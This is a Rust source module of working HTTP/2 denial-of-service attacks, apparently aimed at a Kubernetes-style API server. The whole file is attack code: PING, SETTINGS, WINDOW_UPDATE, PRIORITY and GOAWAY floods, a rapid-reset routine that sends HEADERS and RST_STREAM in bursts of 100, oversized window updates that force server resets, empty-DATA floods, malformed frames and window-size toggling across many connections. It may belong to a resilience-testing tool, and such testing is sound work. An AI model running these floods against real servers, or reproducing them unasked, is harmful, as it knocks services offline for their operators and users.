//! Attacks with HTTP/2 frames: floods, and useless frames.

use std::sync::Arc;
use std::time::Instant;

use anyhow::Result;
use tokio::time::sleep;

use crate::Held;
use crate::connections::long;
use crate::wire::{
    ACK, Back, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, Head, INITIAL_WINDOW_SIZE, PING,
    PRIORITY, RST_STREAM, WINDOW_UPDATE, Wire, frame, many, settings,
};
use crate::world::{Who, World, llamas};

/// Repeats the same frames for some seconds, on a number of connections.
pub async fn flood(
    world: Arc<World>,
    who: Who,
    connections: usize,
    frames: Vec<u8>,
    is_read: bool,
) -> Result<Held> {
    let back = Arc::new(Back::default());
    let frames = frames.repeat((16_000 / frames.len()).max(1));
    let deadline = Instant::now() + long();
    let open = many(connections, async |_| {
        let mut wire = Wire::open(&world, who, &[]).await?;
        if is_read {
            wire.read(&back);
        }
        let head = Head::of("GET", &format!("{}?watch=1", llamas("default")), who);
        wire.request(&head).await?;
        let mut sent = 0;
        while Instant::now() < deadline && wire.send(&frames).await.is_ok() {
            sent += frames.len();
        }
        Ok((wire, sent))
    });
    let open = open.await;
    let sent = open.iter().map(|(_, sent)| sent).sum::<usize>() >> 20;
    Ok(Held::new(format!("{sent} MiB sent; {}", back.said()), open))
}

pub fn pings() -> Vec<u8> {
    frame(PING, 0, 0, &[1; 8])
}

pub fn pongs() -> Vec<u8> {
    frame(PING, ACK, 0, &[1; 8])
}

pub fn many_settings() -> Vec<u8> {
    settings(&[])
}

pub fn windows(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())
}

pub fn priorities() -> Vec<u8> {
    (1..100).flat_map(|stream| frame(PRIORITY, 0, stream * 2 + 1001, &[0, 0, 0, 0, 7])).collect()
}

pub fn unknown() -> Vec<u8> {
    frame(0x5a, 0xff, 0, &[7; 100])
}

pub fn goaways() -> Vec<u8> {
    frame(GOAWAY, 0, 0, &[0; 8])
}

/// Sends requests and resets them at once.
pub async fn resets(
    world: Arc<World>,
    who: Who,
    connections: usize,
    times: usize,
    path: String,
) -> Result<Held> {
    let back = Arc::new(Back::default());
    let head = Head::of("GET", &path, who);
    let open = many(connections, async |_| {
        let mut wire = Wire::open(&world, who, &[]).await?;
        wire.read(&back);
        let mut sent = 0;
        while sent < times {
            let mut frames = Vec::new();
            for _ in 0..100 {
                let stream = wire.stream();
                frames.extend_from_slice(&head.frames(stream, true));
                frames.extend_from_slice(&frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            if wire.send(&frames).await.is_err() {
                break;
            }
            sent += 100;
        }
        Ok((wire, sent))
    });
    let open = open.await;
    let sent = open.iter().map(|(_, sent)| sent).sum::<usize>();
    Ok(Held::new(format!("{sent} taken back; {}", back.said()), open))
}

/// Makes the server reset streams: the window becomes too large, or the data too long.
pub async fn made_resets(world: Arc<World>, who: Who, times: usize) -> Result<Held> {
    let back = Arc::new(Back::default());
    let mut wire = Wire::open(&world, who, &[]).await?;
    wire.read(&back);
    let head = Head::of("GET", &llamas("default"), who);
    let mut sent = 0;
    while sent < times {
        let mut frames = Vec::new();
        for _ in 0..100 {
            let stream = wire.stream();
            frames.extend_from_slice(&head.frames(stream, false));
            frames.extend_from_slice(&frame(
                WINDOW_UPDATE,
                0,
                stream,
                &0x7fff_ffff_u32.to_be_bytes(),
            ));
        }
        if wire.send(&frames).await.is_err() {
            break;
        }
        sent += 100;
    }
    Ok(Held::new(format!("{sent} streams; {}", back.said()), wire))
}

/// Sends empty DATA frames on a request that waits for its body.
pub async fn empty_data(world: Arc<World>, who: Who) -> Result<Held> {
    let back = Arc::new(Back::default());
    let mut wire = Wire::open(&world, who, &[]).await?;
    wire.read(&back);
    let head = Head::of("POST", &llamas("pasture"), who);
    let (mut sent, deadline) = (0, Instant::now() + long());
    while Instant::now() < deadline {
        let stream = wire.stream();
        let frames = head.frames(stream, false);
        let empty = frame(DATA, 0, stream, &[]).repeat(2_000);
        if wire.send(&[frames, empty].concat()).await.is_err() {
            break;
        }
        sent += 2_000;
    }
    Ok(Held::new(format!("{sent} frames; {}", back.said()), wire))
}

/// Sends HEADERS without headers, and DATA on closed streams.
pub async fn nonsense(world: Arc<World>, who: Who) -> Result<Held> {
    let back = Arc::new(Back::default());
    let deadline = Instant::now() + long();
    let mut connections = 0;
    while Instant::now() < deadline {
        let Ok(mut wire) = Wire::open(&world, who, &[]).await else { continue };
        wire.read(&back);
        connections += 1;
        for number in 0..100 {
            let stream = wire.stream();
            let frames = match number % 2 {
                0 => frame(HEADERS, END_HEADERS | END_STREAM, stream, &[]),
                _ => [
                    Head::of("GET", "/readyz", who).frames(stream, true),
                    frame(DATA, 0, stream, &[b' '; 1_000]),
                ]
                .concat(),
            };
            if wire.send(&frames).await.is_err() {
                break;
            }
        }
    }
    Ok(Held::new(format!("{connections} connections; {}", back.said()), ()))
}

/// Changes the initial window size again and again.
pub async fn toggled_windows(world: Arc<World>, who: Who, connections: usize) -> Result<Held> {
    let back = Arc::new(Back::default());
    let head = Head::of("GET", &format!("{}?watch=1", llamas("default")), who);
    let windows = [0, 1 << 20, 1, 65_535].map(|size| settings(&[(INITIAL_WINDOW_SIZE, size)]));
    let windows = windows.concat().repeat(50);
    let deadline = Instant::now() + long();
    let open = many(connections, async |_| {
        let mut wire = Wire::open(&world, who, &[]).await?;
        wire.read(&back);
        for _ in 0..900 {
            wire.request(&head).await?;
        }
        while Instant::now() < deadline && wire.send(&windows).await.is_ok() {}
        Ok(wire)
    });
    let open = open.await;
    Ok(Held::new(back.said(), open))
}

/// Opens a window of one byte, byte by byte, on many streams.
pub async fn byte_by_byte(world: Arc<World>, who: Who) -> Result<Held> {
    let back = Arc::new(Back::default());
    let open = many(10, async |_| {
        let mut wire = Wire::open(&world, who, &[(INITIAL_WINDOW_SIZE, 1)]).await?;
        wire.read(&back);
        let head = Head::of("GET", "/openapi/v2", who);
        let mut streams = Vec::new();
        for _ in 0..100 {
            streams.push(wire.request(&head).await?);
        }
        let updates: Vec<u8> = streams.iter().flat_map(|stream| windows(*stream)).collect();
        let deadline = Instant::now() + long();
        while Instant::now() < deadline && wire.send(&updates).await.is_ok() {
            sleep(std::time::Duration::from_millis(1)).await;
        }
        Ok(wire)
    });
    let open = open.await;
    Ok(Held::new(back.said(), open))
}
